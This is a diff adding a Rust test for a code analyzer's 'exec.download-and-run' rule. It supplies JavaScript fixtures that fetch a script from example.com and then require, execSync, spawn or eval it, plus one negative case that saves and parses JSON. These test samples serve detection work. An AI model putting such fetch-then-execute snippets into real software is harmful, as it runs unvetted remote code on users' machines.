@@ -136,6 +136,39 @@ fn python_download_then_run_is_linked() {
 }
 
 #[test]
+fn javascript_download_then_run_is_linked() {
+    let cases = [
+        (
+            "const https = require('https');\nconst fs = require('fs');\nconst file = fs.createWriteStream('x.js');\nhttps.get('https://example.com/x.js', (res) => {\n  res.pipe(file);\n  file.on('finish', () => require('./x.js'));\n});\n",
+            (5, 6),
+        ),
+        (
+            "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst body = await (await fetch('https://example.com/i.sh')).text();\nfs.writeFileSync('i.sh', body);\nexecSync('sh i.sh');\n",
+            (4, 5),
+        ),
+        (
+            "const fs = require('fs');\nconst cp = require('child_process');\nconst r = await fetch('https://example.com/t');\nfs.writeFileSync('./t', await r.text(), { mode: 0o755 });\ncp.spawn('./t', []);\n",
+            (4, 5),
+        ),
+        (
+            "const fs = require('fs');\nconst r = await fetch('https://example.com/p.js');\nfs.writeFileSync('p.js', await r.text());\neval(fs.readFileSync('p.js', 'utf8'));\n",
+            (3, 4),
+        ),
+    ];
+    for (code, lines) in cases {
+        download_and_run(&js(code), lines);
+    }
+    // eval of a fetched body.
+    let r = js("const r = await fetch('https://example.com/c');\neval(await r.text());\n");
+    assert!(rule(&r, "exec.download-and-run").is_some(), "{r:#?}");
+    // Saving a download and reading it as data is not running it.
+    let r = js(
+        "const fs = require('fs');\nconst r = await fetch('https://example.com/d.json');\nfs.writeFileSync('d.json', await r.text());\nconsole.log(JSON.parse(fs.readFileSync('d.json', 'utf8')));\n",
+    );
+    assert!(rule(&r, "exec.download-and-run").is_none(), "{r:#?}");
+}
+
+#[test]
 fn zz_debug() {
     let code = std::fs::read_to_string("/tmp/pyjs_dbg.txt").unwrap_or_default();
     let lang = if code.starts_with("//") {
